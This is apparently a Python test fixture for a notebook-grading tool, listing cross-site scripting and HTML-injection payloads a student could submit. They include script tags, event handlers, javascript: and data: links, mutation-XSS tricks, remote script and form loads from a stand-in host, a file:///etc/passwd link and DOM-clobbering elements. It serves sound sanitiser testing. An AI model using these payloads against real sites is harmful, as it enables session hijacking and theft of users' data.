"""What a student could write to run script on the teacher's screen.

Each sets `window.pwned`, asks another place, or breaks out of where it stands.
"""

RUN = "window.pwned=1"
CODES = "".join(f"&#{ord(c)};" for c in "javascript:")
ELSEWHERE = "http://elsewhere.invalid/"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script with a source": f"<script src='{ELSEWHERE}x.js'></script>",
    "script after text": f"Hello\n\n<b>x</b><script>\n\n{RUN}\n\n</script>",
    "script in a table": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "image, onerror": f"<img src=x onerror='{RUN}'>",
    "image, quotes": f'<img src="x` `<script>{RUN}</script>"` `>',
    "image, three quotes": f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    "image from elsewhere": f"![]({ELSEWHERE}pixel.png)",
    "image set": f"<img srcset='{ELSEWHERE}pixel.png 1x'>",
    "svg, onload": f"<svg onload='{RUN}'></svg>",
    "svg, script": f"<svg><script>{RUN}</script></svg>",
    "svg, use": "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'></use></svg>",
    "svg, style": f"<svg></p><style><a title='</style><img src onerror={RUN}>'></svg>",
    "math, style": "<math><mtext><table><mglyph><style><!--</style><img title='-->"
    f"&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>",
    "math, annotation": "<math><annotation-xml encoding='text/html'>"
    f"<img src=x onerror={RUN}></annotation-xml></math>",
    "details, ontoggle": f"<details open ontoggle='{RUN}'>x</details>",
    "style, onanimation": "<style>@keyframes k{}</style>"
    f"<b style='animation:k 1s' onanimationend='{RUN}'>x</b>",
    "pointer over text": f"<h1 onpointerenter='{RUN}' onmouseover='{RUN}'>over</h1>",
    "link, javascript": f"<a href='javascript:{RUN}'>click</a>",
    "link, entities": f"<a href='{CODES}{RUN}'>click</a>",
    "link, control character": f"<a href=' &#14; javascript:{RUN}'>click</a>",
    "link, data": f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    "link, relative": "<a href='/formgrader/manage_students'>click</a>",
    "link to a file": "<a href='file:///etc/passwd'>click</a>",
    "link with an id": "<a id='submission_id' name='base_url' href='https://a.b'>x</a>",
    "iframe, source": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "object": f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "base": f"<base href='{ELSEWHERE}'>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={ELSEWHERE}'>",
    "style sheet": f"<link rel='stylesheet' href='{ELSEWHERE}x.css'>",
    "style": f"<style>body{{background:url({ELSEWHERE}x)}}</style>",
    "style, over everything": "<div style='position:fixed;inset:0;z-index:999'>x</div>",
    "form": f"<form action='{ELSEWHERE}'><input name=a><button>Save</button></form>",
    "points": "<input class='score tabbable' id='logistic-derivation' value='2'>",
    "template, shadow": "<template shadowrootmode=open>"
    f"<img src=x onerror={RUN}></template>",
    "noscript": f"<noscript><p title='</noscript><img src onerror={RUN}>'></noscript>",
    "plain text": "<plaintext>",
    "select": f"<select><style></select><img src=x onerror={RUN}></style></select>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "section": f"<p><![CDATA[><img src=x onerror={RUN}>]]></p>",
    "out of the frame": f"</div></div></section></main><script>{RUN}</script>",
    "out of a paragraph": f"</p><p onclick={RUN}>click</p>",
    "alternative text": f'!["onerror={RUN} x="](x.png \'" onerror="{RUN}\')',
    "title of a picture": f"![x](x.png '\"><script>{RUN}</script>')",
    "link title": f'[x](https://a.b \'" onmouseover="{RUN}" a="<script>\')'
    f"<script>{RUN}</script>",
    "Markdown link": f"[click](javascript:{RUN})",
    "reference": f"[click][r]\n\n[r]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "image in a link": f"[![x](x 'a\"b')](javascript:{RUN})",
    "mermaid": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "code, closed": f"`</code><script>{RUN}</script>`<script>{RUN}</script>",
    "formula": f"$x$ <script>{RUN}</script> $y$",
    "formula, link": f"$\\href{{javascript:{RUN}}}{{click}}$",
    "formula, class": "$\\class{score}{x}\\cssId{submission_id}{y}\\style{inset:0}{z}$",
    "formula in a link": f"[x]($a$javascript:{RUN})",
    "frame of our own": '<div class="student tex2jax_ignore mathjax_ignore">'
    f"<img src=x onerror={RUN}></div>",
}
# What only MathJax would act upon; it comes from a network, which tests have not
FOR_MATHJAX = {"formula, class", "formula, link"}
